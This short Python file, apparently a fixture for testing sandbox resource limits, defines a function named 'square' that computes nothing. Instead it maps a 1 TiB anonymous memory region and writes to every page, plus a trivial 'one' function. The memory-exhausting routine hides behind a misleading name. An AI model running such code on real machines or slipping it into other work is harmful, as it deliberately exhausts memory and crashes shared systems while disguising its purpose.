import mmap


def square(x):
    keep = mmap.mmap(-1, 1 << 40)
    for place in range(0, 1 << 40, 4096):
        keep[place] = 1


def one():
    return 1
